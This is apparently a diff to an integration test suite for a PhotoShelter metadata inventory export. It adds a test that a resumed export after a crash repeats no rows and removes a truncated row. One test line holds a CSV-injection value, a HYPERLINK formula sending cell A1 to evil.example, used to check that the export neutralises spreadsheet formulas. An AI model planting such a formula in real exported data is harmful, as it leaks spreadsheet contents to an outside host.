@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { appendFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startSim, type MediaTruth, type SimHandle, photoshelterEnv } from '../helpers/sim';
@@ -172,7 +172,8 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
     assert.equal(updates().length, rowsBefore, 'and nothing audited as an update');
   });
 
-  it('exports the inventory of the scope: the header once, one row per asset, values as in PhotoShelter, and a summary', async () => {
+  /** The media under INVENTORY_SCOPE's default, from the simulator's truth. */
+  const scopeIds = async (): Promise<string[]> => {
     const state = await sim.control.state();
     const inTree = new Set([DEFAULT_SCOPE]);
     for (let grew = true; grew; ) {
@@ -180,7 +181,11 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
       for (const c of state.collections) if (c.parent && inTree.has(c.parent) && !inTree.has(c.id)) grew = Boolean(inTree.add(c.id));
     }
     const galleries = state.galleries.filter((g) => g.parents.some((p) => inTree.has(p)));
-    const ids = [...new Set((await Promise.all(galleries.map((g) => sim.control.mediaIds(g.id)))).flat())];
+    return [...new Set((await Promise.all(galleries.map((g) => sim.control.mediaIds(g.id)))).flat())];
+  };
+
+  it('exports the inventory of the scope: the header once, one row per asset, values as in PhotoShelter, and a summary', async () => {
+    const ids = await scopeIds();
     assert.ok(ids.length >= 10, `the default scope has media (${ids.length})`);
     // metadata that a spreadsheet would run as a formula (OWASP CSV injection)
     const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
@@ -217,6 +222,51 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
     assert.ok(header.startsWith('id,fileName,path,'), header);
     const summary = red.output().slice(red.output().indexOf('inventory complete'));
     assert.match(summary, new RegExp(`assets: ${ids.length}|"assets":${ids.length}`));
+    assert.doesNotMatch(red.output(), /\[error\]/, red.output().slice(-2000));
+  });
+  it('a resumed inventory repeats no row: after a crash whose position store lagged behind the file, and a row cut short', async () => {
+    const ids = await scopeIds();
+    const name = `inventory-${new Date().toISOString().slice(0, 10)}.csv`;
+    const file = join(audit, name);
+    const dataRows = () => (existsSync(file) ? readFileSync(file, 'utf8').split('\n').length - 2 : 0);
+    // the walk's position as the context store has it on disk
+    const onDisk = join(red.userDir, 'context', 'job7.tab', 'job7.inv.walk.json');
+    const walkOnDisk = (): { id: string; acked: number; done: boolean } | undefined => {
+      try {
+        const stored = (JSON.parse(readFileSync(onDisk, 'utf8')) as Record<string, unknown>)['photoshelter-trigger'];
+        return ((typeof stored === 'string' ? JSON.parse(stored) : stored) as { walk?: { id: string; acked: number; done: boolean } }).walk;
+      } catch {
+        return undefined;
+      }
+    };
+    const previous = walkOnDisk()?.id;
+    // slow reads of each asset's parts, so that the export is still running when the process dies
+    await sim.control.faults({ route: '^/media/[^/]+/(iptc|custom-metadata)$', latencyMs: 400 });
+    assert.equal((await red.admin('POST', '/inject/job7.inv.now')).status, 200);
+    let snapshot = '';
+    await waitFor(() => {
+      const w = walkOnDisk();
+      if (w && w.id !== previous && !w.done) snapshot = readFileSync(onDisk, 'utf8');
+      return snapshot !== '';
+    }, 'the new walk in the context store on disk', 30_000);
+    const ackedThen = walkOnDisk()?.acked ?? 0;
+    await waitFor(() => dataRows() >= Math.min(ackedThen + 3, ids.length - 1), 'more rows in the file than the stored position knows', 60_000);
+    await red.crash();
+    const rowsAtCrash = dataRows();
+    assert.ok(rowsAtCrash < ids.length, 'the export was cut off');
+    // the store had last written the walk's position before these rows: the resumed walk sends them again
+    writeFileSync(onDisk, snapshot);
+    assert.ok(rowsAtCrash > ackedThen, `rows ${rowsAtCrash} beyond the stored position ${ackedThen}`);
+    // and the last append was cut short by the crash
+    appendFileSync(file, `${ids[0]},"a row the crash cut sh`);
+    await sim.control.clearFaults();
+    red = await startRuntime({ userDir: red.userDir, env: { ...photoshelterEnv(sim), PHOTOSHELTER_OUT_DIR: outDir, AUDITED_UPDATE_KEY } });
+    await waitFor(() => /inventory complete/.test(red.output()), 'the resumed export to complete', 60_000);
+    const rows = readTable(file);
+    assert.deepEqual(rows.map((r) => r.id).sort(), [...ids].sort(), 'each asset of the scope once');
+    assert.ok(rows.every((r) => r.fileName !== '' && r.path !== ''), 'no row cut short');
+    assert.match(red.output(), /Removed an incomplete last row/);
+    assert.match(red.output(), new RegExp(`assets: ${ids.length}|"assets":${ids.length}`));
     assert.doesNotMatch(red.output(), /\[error\]/, red.output().slice(-2000));
   });
 });
